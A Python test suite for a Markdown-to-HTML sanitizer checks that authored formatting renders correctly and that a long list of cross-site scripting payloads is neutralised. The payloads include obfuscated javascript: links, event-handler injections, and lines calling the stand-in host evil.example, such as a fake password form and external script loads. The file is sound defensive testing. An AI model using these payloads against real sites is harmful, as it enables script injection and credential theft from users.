"""Markdown to HTML: what an author means arrives, what an attacker means does not."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from caseupdates.updates.markdown import ATTRIBUTES, TAGS, html, plain

pytestmark = pytest.mark.one_database

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import url(//evil.example)</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example autoplay></video><audio src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](intent://evil.example#Intent;end)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
    "[x](https://ok.example/\"onmouseover=alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<div id=root class=card>x</div>",
    "<a name=x id=x target=_self ping=//evil.example href=https://ok.example>x</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "~~<script>alert(1)</script>~~",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


class Found(HTMLParser):
    """What a browser would find: elements, attributes, where links lead."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_is_safe(text):
    found = Found(html(text))
    assert found.tags <= TAGS
    assert found.attributes <= {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "rel")}
    assert {scheme(link) for link in found.links} <= {"http", "https", "mailto", "tel", ""}


def scheme(link):
    """As the URL standard finds it (4.4): spaces and controls around taken off, tabs and line ends taken out."""
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", link), re.IGNORECASE)
    return found[1].lower() if found else ""


def test_the_allowed_tags_can_neither_run_nor_load_anything():
    assert not TAGS & {"script", "style", "iframe", "img", "svg", "math", "form", "input", "button", "object", "video"}
    assert not {name for names in ATTRIBUTES.values() for name in names} - {"href", "title", "start"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_known_attack_becomes_harmless(payload):
    assert_is_safe(payload)


@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "# {}", "**{}**", "[{}](https://ok.example)", "| a |\n|---|\n| {} |"]
)
def test_an_attack_inside_other_markdown_is_harmless_too(around):
    for payload in PAYLOADS:
        assert_is_safe(around.format(payload))


NOISE = st.lists(
    st.sampled_from([*PAYLOADS, *"<>\"'`[]()!&#\\\n| ", "javascript:", "onerror=", "on", "https://x"])
    | st.text(st.characters(codec="utf-8"), max_size=8)
)


@given(NOISE)
@example(["[", "x", "]", "(", "javascript:", ")"])
@settings(max_examples=300, deadline=None)
def test_nothing_made_of_attacks_and_noise_gets_through(parts):
    assert_is_safe("".join(parts))


@given(NOISE)
@example(["1. ", "x\n", "    ", "y\n", "===\n", "```\n", "+ x"])
@settings(max_examples=200, deadline=None)
def test_plain_text_becomes_nothing_but_paragraphs_and_lines(parts):
    assert Found(html(plain("".join(parts)))).tags <= {"p", "br"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**Two** *observers*", "<p><strong>Two</strong> <em>observers</em></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("- quay\n- road", "<ul>\n<li>quay</li>\n<li>road</li>\n</ul>"),
        ("3. third", '<ol start="3">\n<li>third</li>\n</ol>'),
        ("## Night two", "<h2>Night two</h2>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("---", "<hr>"),
    ],
)  # fmt: skip
def test_what_an_author_means_arrives(text, shown):
    assert html(text).strip() == shown


def test_a_table_arrives():
    found = Found(html("| Vehicle | Seen |\n|---|---|\n| White van | 02:10 |"))
    assert found.tags >= {"table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize(
    "link", ["https://ok.example/a?b=c", "http://ok.example", "mailto:a@ok.example", "tel:+442079460000"]
)
def test_a_link_leads_where_it_says_and_tells_nothing(link):
    shown = html(f"[here]({link})")
    assert Found(shown).links == [link]
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_html_that_was_typed_is_shown_as_it_was_typed():
    assert html("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"
